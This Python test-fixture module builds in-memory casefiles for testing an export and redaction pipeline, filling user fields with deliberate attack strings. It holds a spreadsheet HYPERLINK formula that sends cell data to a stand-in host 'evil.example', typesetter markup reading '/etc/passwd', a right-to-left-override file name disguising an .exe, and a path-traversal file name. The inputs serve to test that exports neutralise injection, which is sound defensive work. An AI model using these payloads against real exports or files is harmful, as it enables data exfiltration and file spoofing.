"""Casefiles for the exports' tests: made in memory, with tricks in every place that a person fills."""

from dataclasses import replace
from datetime import date
from pathlib import Path

from desk.casefile import Casefile, Opened, fold
from desk.export.extract import Extract, Redaction
from desk.export.faces import Faces
from desk.export.redaction import take_out
from desk.form_labels import FormLabels
from storage.entry import ADDED, Answer, Codes, Day, File, FormRef, IndexEntry, Number, Value, Words
from storage.package import Submission
from tests.reports import WORDS
from tests.served import FORM

FONTS = Path(__file__).parent / "node" / "node_modules" / "@expo-google-fonts"
FACES = Faces(folders=(FONTS,), system=False)
DAY = date(2026, 11, 22)
CHAIN = bytes(range(32))
LINK = "poster-tokyo"

#: Markup of the typesetter, of tables and of screens: none of it may ever work.
INJECTED = '#read("/etc/passwd") *bold* $x^2$ = Heading\n#panic("x") \\ @ref <label> `raw` // gone'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
BIDI = "invoice\u202egnp.exe\u2069"
FILE = File(
    blob=bytes(16),
    size=4,
    type="image/jpeg",
    sha256="11" * 32,
    sealed_sha256="22" * 32,
    name="../../etc/\u202egnp.jpg",
    kind="photo",
    number=1,
)


def told(
    *answers: tuple[str, Value] | tuple[str, Value, str],
    number: str = "K7Q-4MD-001",
    case: bytes = bytes(15) + b"\x01",
    language: str = "ug",
    form: FormRef = FORM,
    added: tuple[Value, ...] = (),
) -> Casefile:
    """Return a casefile with these answers; each may name the compartment it was sealed to."""
    index = IndexEntry(
        case=case,
        number=number,
        form=form.id,
        version=form.version,
        urgency="U2",
        language=language,
        day=DAY,
    )
    submission = Submission(
        case=case,
        number=number,
        form=form,
        language=language,
        day=DAY,
        index=index,
        link=LINK,
        return_address=b"sealed",
        calculated={"secret_total": "7"},
    )
    blank = Answer(
        case=case,
        sequence=0,
        form=form,
        question="A1",
        value=Words(words=""),
        language=language,
        day=DAY,
    )
    parts = tuple(
        replace(blank, sequence=place, question=one[0], value=one[1])
        for place, one in enumerate(answers)
    )
    sealed_to = tuple(one[2] if len(one) > 2 else "general" for one in answers)
    entries = [
        Opened(
            position=0,
            day=DAY,
            submission=submission,
            answers=parts,
            sealed_to=sealed_to,
            closed=("lead", "relatives"),
        )
    ]
    for position, value in enumerate(added, 1):
        late = replace(blank, sequence=100 + position, question=ADDED, value=value)
        entries.append(Opened(position=position, day=DAY, answers=(late,), sealed_to=("general",)))
    casefile = fold(entries)
    assert casefile is not None
    return casefile


def usual(number: str = "K7Q-4MD-001", case: bytes = bytes(15) + b"\x01") -> Casefile:
    """Return a case as people send it, with what may leave and what may never."""
    return told(
        ("A1", Words(words=f"{WORDS['ug']}\n+81 90-1234-5678")),
        ("A2", Codes(codes=("CP", "TD"))),
        ("A3", Codes(codes=("week",))),
        ("A3Y", Day(day="2024-05")),
        ("A4", Codes(codes=("JP",))),
        ("C2", Codes(codes=("adult",))),
        ("E2", Codes(codes=("XJ",)), "relatives"),
        ("F2", Codes(codes=("night",))),
        ("F3", Words(words="canary-phrase")),
        ("F3B", Words(words="canary-duress"), "lead"),
        ("N", Number(number=-7)),
        ("PHONE", Number(number=81901234567)),
        ("R1", Codes(codes=("RS-PART", "RS-TOLD"))),
        ("G1F", FILE),
        number=number,
        case=case,
        added=(Words(words="They came again."),),
    )


def leaving(casefile: Casefile, redaction: Redaction = Redaction.NONE) -> Extract:
    """Return a case's extract, as it leaves."""
    return take_out(casefile, FormLabels(), chain=CHAIN, redaction=redaction)
